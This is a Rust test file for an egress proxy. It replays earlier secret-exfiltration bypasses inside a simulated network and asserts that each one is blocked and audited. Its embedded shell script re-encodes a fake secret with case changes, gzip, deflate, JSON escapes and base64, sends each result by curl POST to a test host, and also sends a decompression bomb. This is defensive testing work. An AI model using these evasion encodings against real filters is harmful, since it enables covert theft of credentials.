//! Exfiltration that once got past the egress proxy (issue 10, items 2 and 7), replayed in the
//! test's own fake internet: plain HTTP and other protocols inside `CONNECT` tunnels, and a
//! secret re-encoded in cheap ways (upper case, gzip and deflate bodies, JSON `\u` escapes,
//! base64 with line breaks). Each case asserts the status the step saw, the audit event with its
//! reason, and that the server (or the attacker) received nothing.

mod common;

use common::inet::{Internet, audit_events, egress_users, find, needs_root};
use common::*;

/// A secret the step holds (declared, not brokered), and the attacker's wish to send it out.
const SECRET: &str = "lk_9fQz7Rt2Wm4Xp8Vn3Bs6Jd";

const PROFILE: &str = "\
name: exfil-test
description: plain HTTP allowed to two names, one of them the attacker's
extends: default
network:
  allow:
    - { host: allowed.test, ports: [80] }
    - { host: plain.test, ports: [80, 9999] }
secrets:
  LEAKY: {}
";

fn run(net: &Internet, dir: &Dir, profile: &str, script: &str) -> Out {
    let secrets = dir.write("home/secrets.json", &format!("{{\"LEAKY\": \"{SECRET}\"}}"));
    let extra = ["--secrets-file", secrets.to_str().unwrap(), "--no-mask"];
    net.run(dir, profile, &extra, script)
}

/// The cheap re-encodings: every body below carries the secret, and each is refused with 403
/// and a `secret_leak` event; the web server logs every request it gets, and gets none.
#[test]
fn re_encoded_secrets_in_plain_http_bodies_are_caught() {
    if !needs_root() {
        return;
    }
    let script = r#"
post() { name=$1; shift; curl -s -m 8 -o /dev/null -w "$name %{http_code}\n" "$@" "http://allowed.test/$name"; }
printf 't=%s' "$LEAKY" | tr a-z A-Z > upper.txt
python3 -c 'import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(b"t=" + os.environb[b"LEAKY"]))' > body.gz
python3 -c 'import zlib,os,sys; sys.stdout.buffer.write(zlib.compress(b"t=" + os.environb[b"LEAKY"]))' > body.zlib
python3 -c 'import zlib,os,sys; c = zlib.compressobj(wbits=-15); sys.stdout.buffer.write(c.compress(b"t=" + os.environb[b"LEAKY"]) + c.flush())' > body.deflate
python3 -c 'import os,sys; sys.stdout.write("{\"t\": \"" + "".join("\\u%04x" % ord(c) for c in os.environ["LEAKY"]) + "\"}")' > body.json
python3 -c 'import base64,os,sys; sys.stdout.write(base64.encodebytes(b"x" * 50 + os.environb[b"LEAKY"]).decode().replace("\n", "\r\n"))' > body.mime
printf '%s' "$LEAKY" | base64 -w 8 > body.b64
python3 -c 'import gzip,sys; sys.stdout.buffer.write(gzip.compress(b"\0" * (20 << 20)))' > bomb.gz
post upper --data-binary @upper.txt
post gzip -H 'Content-Encoding: gzip' --data-binary @body.gz
post zlib -H 'Content-Encoding: deflate' --data-binary @body.zlib
post deflate -H 'Content-Encoding: deflate' --data-binary @body.deflate
post json -H 'Content-Type: application/json' --data-binary @body.json
post mime --data-binary @body.mime
post b64 --data-binary @body.b64
post bomb -H 'Content-Encoding: gzip' --data-binary @bomb.gz
post brotli -H 'Content-Encoding: br' --data-binary 'not really brotli'
python3 -c 'import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(b"ok=" + os.environb[b"LEAKY"][::-1]))' > clean.gz
post clean -H 'Content-Encoding: gzip' --data-binary @clean.gz
"#;
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = run(&net, &dir, PROFILE, script);
        assert_eq!(
            out.stdout(),
            "upper 403\ngzip 403\nzlib 403\ndeflate 403\njson 403\nmime 403\nb64 403\n\
             bomb 413\nbrotli 415\nclean 200\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        let got = net.log("requests.log");
        assert_eq!(got.lines().count(), 1, "as uid {uid}: {got}");
        assert!(got.contains("POST /clean"), "as uid {uid}: {got}");
        let ev = audit_events(&dir);
        let leaks = find(
            &ev,
            "secret_leak",
            &[
                ("secret_name", "LEAKY"),
                ("dest_name", "allowed.test"),
                ("via", "proxy"),
            ],
        );
        assert_eq!(leaks.len(), 7, "as uid {uid}: {ev:#?}");
        for (path, status) in [
            ("upper", "403"),
            ("gzip", "403"),
            ("zlib", "403"),
            ("deflate", "403"),
            ("json", "403"),
            ("mime", "403"),
            ("b64", "403"),
            ("bomb", "413"),
            ("brotli", "415"),
        ] {
            let url = format!("http://allowed.test/{path}");
            assert_eq!(
                find(
                    &ev,
                    "http",
                    &[("url", &url), ("decision", "deny"), ("status", status)]
                )
                .len(),
                1,
                "as uid {uid}: {path}: {ev:#?}"
            );
        }
        assert!(
            out.stderr().contains("larger than 16777216 bytes decoded"),
            "as uid {uid}: {}",
            out.stderr()
        );
    }
}
